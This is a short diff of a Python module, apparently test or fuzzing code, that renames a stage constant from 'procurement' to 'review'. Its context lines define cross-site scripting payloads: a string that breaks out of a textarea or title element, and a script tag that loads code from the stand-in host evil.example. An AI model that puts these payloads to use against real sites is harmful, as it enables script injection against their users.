@@ -13,7 +13,7 @@ from .addresses import Address, all_addresses, reverse
 from .walking import TWO_KINDS, Walk
 
 ELSEWHERE = "evil.example"
-AGREED = "procurement"  # a stage that the world leaves alone
+AGREED = "review"  # a stage that the world leaves alone
 BREAK_OUT = "\"'></textarea></title>"
 LIVE = (
     f"<script src=//{ELSEWHERE}/s></script>",
